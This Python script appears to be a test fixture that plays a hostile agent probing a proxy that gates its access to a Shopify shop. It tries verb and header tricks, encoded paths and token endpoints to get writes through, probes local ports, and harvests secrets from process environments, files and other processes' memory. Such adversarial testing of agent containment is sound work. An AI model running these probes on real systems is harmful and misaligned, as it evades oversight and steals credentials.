"""An agent that was told to change the shop and to find what it could call Shopify with by itself.

It prints all that it sees, for the test to look through.
"""

import os
import re
import socket
import sys
import urllib.error
import urllib.request

API = "/admin/api/2026-10"
SHOP = "https://" + os.environ["SHOPIFY_SHOP"]
HERE = os.environ["EVERGATE_URL"]
MUTATION = b'{"query":"mutation { productCreate(product: {title: \\"Bought\\"}) { product { id } } }"}'
PRODUCT = b'{"product":{"title":"Bought"}}'
TOKEN = re.compile(rb"[A-Za-z]*_?[0-9a-f]{32,}|MARK=[a-z ]+")


def show(what, text):
    sys.stdout.write(f"--- {what}\n{text}\n")


def call(method, url, body=None, header=None):
    """Calls by whatever proxy the environment names, and shows the whole answer."""
    request = urllib.request.Request(url, body, {"Content-Type": "application/json", **(header or {})}, method=method)
    try:
        with urllib.request.urlopen(request, timeout=20) as answer:
            show(f"{answer.status} {method} {url}", f"{answer.headers}{answer.read().decode(errors='replace')}")
    except urllib.error.HTTPError as refused:
        show(f"{refused.code} {method} {url}", f"{refused.headers}{refused.read().decode(errors='replace')}")
    except OSError as failed:
        show(f"failed {method} {url}", failed)


def write():
    """Tries to change the shop, by all addresses that there are and in all spellings."""
    for base in HERE, SHOP, HERE + "/" + os.environ["SHOPIFY_SHOP"]:
        call("GET", base + API + "/products.json")
        for method in "POST", "PUT", "DELETE", "PATCH", "post", "FROB":
            call(method, base + API + "/products.json", PRODUCT)
        for name in "X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override", "_method":
            call("GET", base + API + "/products.json", PRODUCT, {name: "POST"})
        for path in "/graphql.json", "/graphql.json/", "/%67raphql.json":
            call("POST", base + API + path, MUTATION)
        for body in b"[" + MUTATION + b"]", MUTATION.replace(b'"query"', b'"QUERY"'), MUTATION[:-1] + b',"query":"{shop{name}}"}', b"\xef\xbb\xbf" + MUTATION:
            call("POST", base + API + "/graphql.json", body)
        call("POST", base + API + "/graphql.json?query=mutation%7BproductCreate%7D", b'{"query":"{shop{name}}"}')
        for path in "/admin/oauth/access_token", "/admin/oauth/access_token.json", "/admin/api_permissions/current.json", API + "/access_tokens/delegate", API + "/storefront_access_tokens.json":
            call("POST", base + path, b"{}")
            call("GET", base + path)
        for key in "X-Shopify-Access-Token", "Authorization", "Proxy-Authorization":
            call("POST", base + API + "/products.json", PRODUCT, {key: os.environ["SHOPIFY_ACCESS_TOKEN"]})


def ask():
    """Asks whatever listens on this machine for all that it tells."""
    ports = set()
    with open("/proc/net/tcp", encoding="ascii") as table:
        for line in table.readlines()[1:]:
            local, state = line.split()[1], line.split()[3]
            if state == "0A":
                ports.add(int(local.split(":")[1], 16))
    for port in sorted(ports):
        for path in "/", "/status", "/metrics", "/ca.pem", "/livez", "/readyz", "/debug/pprof/heap", "/debug/vars", "/token", "/-/token", "/config":
            call("GET", f"http://127.0.0.1:{port}{path}")
        for text in b"TRACE / HTTP/1.1\r\nHost: localhost\r\n\r\n", b"CONNECT 127.0.0.1:22 HTTP/1.1\r\n\r\n", b"nonsense\r\n\r\n":
            try:
                with socket.create_connection(("127.0.0.1", port), timeout=20) as raw:
                    raw.sendall(text)
                    show(f"{text} to {port}", raw.recv(65536))
            except OSError as failed:
                show(f"{text} to {port}", failed)


def look():
    """Reads what this user can read: environments, command lines, memory, files."""
    show("own environment", "\n".join(f"{k}={v}" for k, v in os.environ.items()))
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for name in "environ", "cmdline", "auxv", "mountinfo":
            try:
                with open(f"/proc/{pid}/{name}", "rb") as f:
                    show(f"{name} of {pid}", f.read())
            except OSError:
                pass
        if int(pid) != os.getpid():
            memory(pid)
    for place in {os.environ["HOME"], os.environ["TMPDIR"], os.environ.get("XDG_RUNTIME_DIR", "/run"), "/dev/shm"}:
        for folder, _, files in os.walk(place):
            for name in files:
                try:
                    with open(os.path.join(folder, name), "rb") as f:
                        show(os.path.join(folder, name), f.read(1 << 20))
                except OSError:
                    pass


def memory(pid):
    """Shows what looks like a token in another process's memory."""
    try:
        with open(f"/proc/{pid}/maps", encoding="utf-8") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
            for line in maps:
                begin, end = (int(x, 16) for x in line.split()[0].split("-"))
                if line.split()[1].startswith("rw") and end - begin < 256 << 20:
                    mem.seek(begin)
                    show(f"memory of {pid}", TOKEN.findall(mem.read(end - begin)))
    except (OSError, ValueError, OverflowError):
        pass


write()
ask()
look()
show("done", "")
